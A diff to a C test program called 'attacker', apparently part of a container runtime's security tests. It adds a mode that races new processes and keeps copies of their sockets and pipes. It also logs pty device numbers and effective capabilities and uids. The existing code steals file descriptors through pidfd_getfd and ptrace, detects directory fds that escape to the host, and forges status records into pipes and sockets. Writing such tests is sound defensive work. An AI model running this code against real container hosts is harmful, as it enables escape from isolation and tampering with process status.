@@ -4,6 +4,7 @@
  *                               fds 0..63; log every fd obtained; "ESCAPE" for a directory fd or one through
  *                               which `..` reaches /tmp/MARKER; write a forged status into pipes (a JSON
  *                               event line) and sockets (a start-failure record: "command not found").
+ *   attacker keep LOG MARKER    race new pids and keep copies of their sockets and pipes past stdio open.
  *   attacker stop LOG MARKER    SIGSTOP each new pid, list and open its /proc/N/fd links, SIGCONT it.
  *   attacker hold DIR COMM      SIGSTOP the first new pid whose comm is not COMM (not yet exec'd), write its
  *                               pid to DIR/held and its fd links to DIR/fds, SIGCONT it once DIR/release exists.
@@ -23,6 +24,7 @@
 #include <sys/ptrace.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
+#include <sys/sysmacros.h>
 #include <sys/syscall.h>
 #include <sys/types.h>
 #include <sys/wait.h>
@@ -71,7 +73,9 @@ static void inspect(int fd, int p, int k, const char *how, const char *link) {
     struct stat st;
     if (fstat(fd, &st) != 0) return;
     const char *t = kind(st.st_mode);
-    logline("GOT %s pid=%d fd=%d type=%s link=%s", how, p, k, t, link ? link : "?");
+    /* A pty master is the character device 5:2 (ptmx), a slave is 136+:N. */
+    logline("GOT %s pid=%d fd=%d type=%s rdev=%u:%u link=%s", how, p, k, t, major(st.st_rdev), minor(st.st_rdev),
+            link ? link : "?");
     if (S_ISDIR(st.st_mode)) {
         logline("ESCAPE directory fd pid=%d fd=%d link=%s", p, k, link ? link : "?");
         char rel[4096];
@@ -100,17 +104,35 @@ static void inspect(int fd, int p, int k, const char *how, const char *link) {
         if (write(fd, forged, sizeof forged - 1) > 0) logline("FORGED pid=%d fd=%d type=%s", p, k, t);
     }
     if (S_ISSOCK(st.st_mode)) {
-        /* A child's start report (stage 5 = execve, errno ENOENT): "command not found", exit 127. */
-        int rec[2] = {5, ENOENT};
+        /* A child's start report (container/src/error.rs Stage::Exec = 4, errno ENOENT): "command not found",
+         * exit 127. Any well-formed record forges a start failure. */
+        int rec[2] = {4, ENOENT};
         if (send(fd, rec, sizeof rec, MSG_DONTWAIT | MSG_NOSIGNAL) > 0) logline("FORGED pid=%d fd=%d type=%s", p, k, t);
     }
 }
 
 static int stopped(void) { return access(stop_path, F_OK) == 0; }
 
+static int read_comm(int p, char *out, size_t len) {
+    char path[64];
+    snprintf(path, sizeof path, "/proc/%d/comm", p);
+    int fd = open(path, O_RDONLY | O_CLOEXEC);
+    if (fd < 0) return -1;
+    ssize_t n = read(fd, out, len - 1);
+    close(fd);
+    if (n <= 0) return -1;
+    out[n] = 0;
+    if (n > 0 && out[n - 1] == '\n') out[n - 1] = 0;
+    return 0;
+}
+
 static void grab(int p) {
     int seized = ptrace(PTRACE_SEIZE, p, 0, 0) == 0;
-    if (seized) logline("SEIZED pid=%d", p);
+    if (seized) {
+        char c[64] = "?";
+        read_comm(p, c, sizeof c);
+        logline("SEIZED pid=%d comm=%s", p, c);
+    }
     int pfd = syscall(SYS_pidfd_open, p, 0);
     if (pfd < 0 && errno == ESRCH && !seized) return; /* not born yet */
     if (pfd >= 0) {
@@ -153,9 +175,46 @@ static void grab(int p) {
     }
 }
 
+/* Takes copies of the pid's sockets past stdio and keeps them open (never closed, never written). A kept stdio
+ * pipe would hold the session open in docker exec and runc exec too, so stdio is left alone. */
+static void keep(int p) {
+    int pfd = syscall(SYS_pidfd_open, p, 0);
+    if (pfd < 0) return;
+    for (int k = 3; k < 64; k++) {
+        int fd = syscall(SYS_pidfd_getfd, pfd, k, 0);
+        if (fd < 0) continue;
+        struct stat st;
+        if (fstat(fd, &st) == 0 && (S_ISSOCK(st.st_mode) || S_ISFIFO(st.st_mode))) {
+            logline("KEPT pid=%d fd=%d type=%s", p, k, kind(st.st_mode));
+            continue;
+        }
+        close(fd);
+    }
+    close(pfd);
+}
+
+/* Logs the comm and the effective capabilities of pid p (from /proc/p/status). */
+static void log_status(int p) {
+    char path[64], line[256], comm[64] = "?", capeff[64] = "?", uid[64] = "?";
+    snprintf(path, sizeof path, "/proc/%d/status", p);
+    FILE *f = fopen(path, "r");
+    if (!f) return;
+    while (fgets(line, sizeof line, f)) {
+        line[strcspn(line, "\n")] = 0;
+        if (strncmp(line, "Name:\t", 6) == 0) snprintf(comm, sizeof comm, "%.60s", line + 6);
+        if (strncmp(line, "CapEff:\t", 8) == 0) snprintf(capeff, sizeof capeff, "%.60s", line + 8);
+        if (strncmp(line, "Uid:\t", 5) == 0) snprintf(uid, sizeof uid, "%.60s", line + 5);
+    }
+    fclose(f);
+    for (char *c = uid; *c; c++)
+        if (*c == '\t') *c = ',';
+    logline("STATUS pid=%d comm=%s CapEff=%s Uid=%s", p, comm, capeff, uid);
+}
+
 static void stop_and_list(int p) {
     if (kill(p, SIGSTOP) != 0) return;
     logline("STOPPED pid=%d", p);
+    log_status(p);
     for (int k = 0; k < 64; k++) {
         char path[64], link[4096];
         snprintf(path, sizeof path, "/proc/%d/fd/%d", p, k);
@@ -186,19 +245,6 @@ static void race(void (*act)(int)) {
         for (int p = seen + 1; p <= last && p > last - 3; p++) act(p);
         seen = last;
     }
-}
-
-static int read_comm(int p, char *out, size_t len) {
-    char path[64];
-    snprintf(path, sizeof path, "/proc/%d/comm", p);
-    int fd = open(path, O_RDONLY | O_CLOEXEC);
-    if (fd < 0) return -1;
-    ssize_t n = read(fd, out, len - 1);
-    close(fd);
-    if (n <= 0) return -1;
-    out[n] = 0;
-    if (n > 0 && out[n - 1] == '\n') out[n - 1] = 0;
-    return 0;
 }
 
 static int hold(const char *dir, const char *comm) {
@@ -259,7 +305,7 @@ int main(int argc, char **argv) {
     }
     if (argc == 4 && strcmp(argv[1], "hold") == 0) return hold(argv[2], argv[3]);
     if (argc != 4) {
-        fprintf(stderr, "usage: attacker grab|stop LOG MARKER | hold DIR COMM | socket FAMILY\n");
+        fprintf(stderr, "usage: attacker grab|keep|stop LOG MARKER | hold DIR COMM | socket FAMILY\n");
         return 2;
     }
     logf = fopen(argv[2], "a");
@@ -269,6 +315,7 @@ int main(int argc, char **argv) {
     logline("READY");
     if (strcmp(argv[1], "grab") == 0) race(grab);
     else if (strcmp(argv[1], "stop") == 0) race(stop_and_list);
+    else if (strcmp(argv[1], "keep") == 0) race(keep);
     else return 2;
     logline("DONE");
     return 0;
